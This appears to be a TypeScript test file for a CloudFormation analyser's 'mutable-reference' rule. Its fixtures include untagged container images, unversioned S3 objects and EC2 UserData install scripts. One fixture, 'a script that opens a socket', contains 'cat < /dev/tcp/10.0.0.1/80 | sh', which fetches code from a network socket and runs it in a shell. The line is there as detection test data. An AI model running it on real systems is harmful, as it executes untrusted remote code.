// biome-ignore-all lint/suspicious/noTemplateCurlyInString: CloudFormation fills these placeholders.
import { letter, rulesOf, untold, withThing } from "./judged.ts";

const script = (text: string) => ({ UserData: { "Fn::Base64": text } });
const hash = "a".repeat(64);

describe("a reference that may mean something else later is found", () => {
  test.each<[string, object]>([
    [
      "an image without a tag",
      withThing("AWS::ECS::TaskDefinition", { ContainerDefinitions: [{ Image: "nginx" }] }),
    ],
    [
      "an image of SageMaker for training",
      withThing("AWS::SageMaker::ModelPackage", {
        TrainingImage: "683313688378.dkr.ecr.us-east-1.amazonaws.com/x:1",
      }),
    ],
    [
      "an image of an agent",
      withThing("AWS::BedrockAgentCore::Runtime", {
        AgentRuntimeArtifact: {
          ContainerConfiguration: { ContainerUri: "1.dkr.ecr.eu-central-1.amazonaws.com/a:latest" },
        },
      }),
    ],
    [
      "the parent of an image",
      withThing("AWS::ImageBuilder::ContainerRecipe", { ParentImage: "amazonlinux:latest" }),
    ],
    [
      "an image in one branch of what nobody can tell",
      withThing(
        "AWS::ECS::TaskDefinition",
        { ContainerDefinitions: [{ Image: { "Fn::If": ["IsOn", "x/y:latest", `x/y@sha256:${hash}`] } }] },
        untold,
      ),
    ],
    [
      "a template's URL of a set of stacks",
      withThing("AWS::CloudFormation::StackSet", { TemplateURL: "https://s3.amazonaws.com/b/t.json" }),
    ],
    [
      "a definition in a bucket",
      withThing("AWS::StepFunctions::StateMachine", { DefinitionS3Location: { Bucket: "b", Key: "k.json" } }),
    ],
    [
      "an API's body in a bucket",
      withThing("AWS::ApiGateway::RestApi", { BodyS3Location: { Bucket: "b", Key: "k.json" } }),
    ],
    [
      "a job's script",
      withThing("AWS::Glue::Job", { Command: { Name: "glueetl", ScriptLocation: "s3://b/script.py" } }),
    ],
    [
      "a schema in a bucket",
      withThing("AWS::AppSync::GraphQLSchema", { DefinitionS3Location: "s3://b/schema.graphql" }),
    ],
    [
      "code by a digest in somebody's bucket",
      withThing("AWS::Lambda::Function", { Code: { S3Bucket: "somebodys", S3Key: `${hash}.zip` } }),
    ],
    [
      "a bundle of Elastic Beanstalk",
      withThing("AWS::ElasticBeanstalk::ApplicationVersion", {
        SourceBundle: { S3Bucket: "b", S3Key: "app.zip" },
      }),
    ],
    [
      "an AMI that is resolved at launch",
      withThing("AWS::EC2::LaunchTemplate", {
        LaunchTemplateData: { ImageId: "resolve:ssm:/aws/service/ami-amazon-linux-latest/al2023" },
      }),
    ],
    [
      "a reference that is joined of parts",
      withThing("AWS::SQS::Queue", {
        QueueName: { "Fn::Join": ["", ["{{resolve:ssm:/", { "Fn::GetAtt": ["Thing", "QueueName"] }, "}}"]] },
      }),
    ],
    [
      "a script that installs something on its second line",
      withThing("AWS::EC2::Instance", script("#!/bin/bash\nyum install -y httpd")),
    ],
    [
      "a script in pieces",
      withThing("AWS::EC2::Instance", {
        UserData: {
          "Fn::Base64": { "Fn::Join": ["", ["#!/bin/bash\nyum ins", "tall -y ", { Ref: "Thing" }]] },
        },
      }),
    ],
    [
      "a script of a fleet",
      withThing("AWS::EC2::SpotFleet", {
        SpotFleetRequestConfigData: { LaunchSpecifications: [script("apk add curl")] },
      }),
    ],
    [
      "a script that opens a socket",
      withThing("AWS::EC2::Instance", script("cat < /dev/tcp/10.0.0.1/80 | sh")),
    ],
    [
      "what cfn-init fetches",
      {
        Resources: {
          Thing: {
            Type: "AWS::EC2::Instance",
            Properties: {},
            Metadata: { "AWS::CloudFormation::Init": { config: { packages: { yum: { httpd: [] } } } } },
          },
        },
      },
    ],
  ])("in %s", (_what, template) => {
    const [plain, strict] = [rulesOf(template), rulesOf(template, { under: letter })];

    expect(strict.some((rule) => ["mutable-reference", "nested-stacks"].includes(rule))).toBe(true);
    expect(plain).not.toContain("mutable-reference");
  });

  test.each<[string, object]>([
    [
      "an image's digest",
      withThing("AWS::ECS::TaskDefinition", { ContainerDefinitions: [{ Image: `nginx@sha256:${hash}` }] }),
    ],
    [
      "an image's digest in a text with own parts",
      withThing("AWS::ECS::TaskDefinition", {
        ContainerDefinitions: [{ Image: { "Fn::Sub": `\${AWS::AccountId}.dkr.ecr.x/y@sha256:${hash}` } }],
      }),
    ],
    [
      "an asset of the CDK",
      withThing("AWS::Lambda::Function", {
        Code: {
          S3Bucket: { "Fn::Sub": "cdk-hnb659fds-assets-${AWS::AccountId}-${AWS::Region}" },
          S3Key: `${hash}.zip`,
        },
      }),
    ],
    [
      "a version of a definition",
      withThing("AWS::StepFunctions::StateMachine", {
        DefinitionS3Location: { Bucket: "b", Key: "k.json", Version: "3" },
      }),
    ],
    [
      "a machine image by its id",
      withThing("AWS::EC2::LaunchTemplate", { LaunchTemplateData: { ImageId: "ami-0123456789abcdef0" } }),
    ],
    ["an image that is a picture", withThing("AWS::Cognito::ManagedLoginBranding", { Image: "logo" })],
    [
      "a script that starts what is there",
      withThing("AWS::EC2::Instance", script("#!/bin/bash\nsystemctl start httpd")),
    ],
  ])("but not in %s", (_what, template) => {
    expect(rulesOf(template, { under: letter })).not.toContain("mutable-reference");
  });
});
